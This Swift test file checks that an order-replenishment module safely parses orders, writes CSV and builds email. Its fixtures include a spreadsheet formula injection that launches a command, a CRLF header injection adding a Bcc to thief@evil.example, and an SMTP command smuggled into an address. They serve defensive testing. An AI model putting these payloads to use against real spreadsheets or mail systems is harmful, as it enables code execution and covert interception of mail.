import Testing

@testable import Replenishment

@Suite struct DocumentTests {
    private static let hostile = "=cmd|'/c calc'!A1\r\nBcc: thief@evil.example\r\n\r\n\"<x>&\u{1}é\u{202E}"

    private func document(item: String = "TN-247", device: String = "p1", cancels: Bool = false, lines: Int = 1) throws -> OrderDocument {
        var document = try OrderDocument(
            parsing: Array(
                #"{"device":"x","order":"or-1","supply":"black","item":"i","amount":79.9,"currency":"EUR","reason":"low"}"#.utf8),
            key: "or-1",
            createdMilliseconds: 1_767_225_600_000)
        document.isCancellation = cancels
        document.lines[0].item = item
        document.lines[0].device = device
        for number in 1..<max(lines, 1) {
            var line = document.lines[0]
            line.order = "or-\(number + 1)"
            document.lines.append(line)
        }
        return document
    }

    @Test func theOutboxJSONIsRead() throws {
        let one = try document()
        #expect(one.subject == "or-1" && !one.isCancellation && one.lines[0].amountHundredths == 7990)
        let many = try OrderDocument(
            parsing: Array(
                #"{"shipment":"sh-1","orders":[{"device":"a","order":"or-1","supply":"s","item":"i"},{"device":"b","order":"or-2","supply":"s","item":"i"}]}"#
                    .utf8), key: "sh-1", createdMilliseconds: 0)
        #expect(many.subject == "sh-1" && many.lines.map(\.order) == ["or-1", "or-2"])
        let off = try OrderDocument(
            parsing: Array(#"{"cancellation":"ca-1","device":"a","order":"or-1","shipment":"sh-1","supply":"s","item":"i"}"#.utf8),
            key: "ca-1",
            createdMilliseconds: 0)
        #expect(off.isCancellation && off.subject == "sh-1")
        for bad in ["", "{}", "[]", "{\"orders\":[]}", "{\"order\":\"x\"}"] {
            #expect(throws: (any Error).self) { try OrderDocument(parsing: Array(bad.utf8), key: "k", createdMilliseconds: 0) }
        }
    }

    // MARK: CSV

    /// A reader of RFC 4180 that knows nothing of the writer.
    private func rows(_ bytes: [UInt8]) -> [[String]] {
        var rows: [[String]] = [[]]
        var field = ""
        var isQuoted = false
        var rest = String(decoding: bytes, as: UTF8.self).unicodeScalars[...]
        while let scalar = rest.popFirst() {
            if isQuoted {
                guard scalar == "\"" else {
                    field.unicodeScalars.append(scalar)
                    continue
                }
                if rest.first == "\"" { field.unicodeScalars.append(rest.removeFirst()) } else { isQuoted = false }
            } else if scalar == "\"" {
                isQuoted = true
            } else if scalar == "," || scalar == "\n" {
                rows[rows.count - 1].append(field)
                field = ""
                if scalar == "\n" { rows.append([]) }
            } else if scalar != "\r" {
                field.unicodeScalars.append(scalar)
            }
        }
        return rows.dropLast()
    }

    @Test func aCSVFile() throws {
        let found = rows(OrderCSV.file(try document(lines: 2), source: "/steward/a"))
        #expect(found.count == 3 && found.allSatisfy { $0.count == OrderCSV.columns.count })
        #expect(found[0] == OrderCSV.columns)
        #expect(found[1].prefix(9) == ["or-1", "order", "or-1", "1", "TN-247", "1", "p1", "black", ""])
        #expect(found[2][2] == "or-2" && found[1][9] == "79.90" && found[1][11] == "2026-01-01T00:00:00+00:00")
    }

    @Test(arguments: ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"]) func formulasBecomeText(_ text: String) throws {
        #expect(OrderCSV.field(text).hasPrefix("\"'"))
        #expect(OrderCSV.field("a" + text).hasPrefix("\"a"))
    }

    @Test func hostileNamesStayInTheirField() throws {
        let found = rows(OrderCSV.file(try document(item: Self.hostile, device: "a,\"b\",c\nd"), source: "s"))
        #expect(found.count == 2)
        #expect(found[1][4] == "'" + Self.hostile && found[1][6] == "a,\"b\",c\nd")
    }

    // MARK: Mail

    private func mail(_ document: OrderDocument) -> (headers: [String], body: String) {
        let text = String(
            decoding: OrderMail.message(document, .init(from: "steward@site.example", to: ["orders@shop.example"]), site: "site-12"),
            as: UTF8.self)
        let parts = text.split(separator: "\r\n\r\n", maxSplits: 1)
        // Folded lines belong to the header before.
        let headers = parts[0].split(separator: "\r\n").reduce(into: [String]()) { lines, line in
            if line.hasPrefix(" ") { lines[lines.count - 1] += line } else { lines.append(String(line)) }
        }
        return (headers, String(parts[1]))
    }

    @Test func aMail() throws {
        let (headers, body) = mail(try document())
        #expect(headers.contains("Message-ID: <or-1@site.example>") && headers.contains("Date: Thu, 01 Jan 2026 00:00:00 +0000"))
        #expect(headers.contains("Subject: Order or-1: TN-247") && headers.contains("To: orders@shop.example"))
        #expect(body.contains("1 x TN-247") && body.contains("79.90 EUR"))
        #expect(mail(try document(cancels: true)).headers.contains("Subject: Cancellation or-1: TN-247"))
    }

    @Test func noNameBeginsAHeader() throws {
        let plain = mail(try document()).headers.map { $0.prefix { $0 != ":" } }
        let (headers, body) = mail(try document(item: Self.hostile, device: Self.hostile))
        #expect(headers.map { $0.prefix { $0 != ":" } } == plain)
        #expect(!body.contains("\r\nBcc"))
        let text = OrderMail.message(try document(item: String(repeating: "ä", count: 3000)), .init(from: "a@b", to: ["c@d"]), site: "s")
        for line in String(decoding: text, as: UTF8.self).split(separator: "\r\n") { #expect(line.utf8.count <= 78) }
        #expect(text.allSatisfy { $0 < 0x80 })
    }

    @Test(arguments: [
        ("a@b.example", true), ("a.b+c@d", true), ("", false), ("a", false), ("@b", false), ("a@", false), ("a@b@c", false),
        ("a b@c", false),
        ("a@b\r\nRCPT TO:<x@y>", false), ("<a@b>", false), ("a@b,c@d", false), ("ä@b", false), ("\"a\"@b", false),
    ]) func addresses(_ text: String, _ isOne: Bool) { #expect(OrderMail.isAddress(text) == isOne) }

    @Test func quotedPrintable() {
        #expect(OrderMail.quotedPrintable("a=b é \n.x") == "a=3Db =C3=A9=20\r\n=2Ex\r\n")
        #expect(OrderMail.quotedPrintable(String(repeating: "x", count: 80)) == String(repeating: "x", count: 75) + "=\r\nxxxxx\r\n")
    }
}
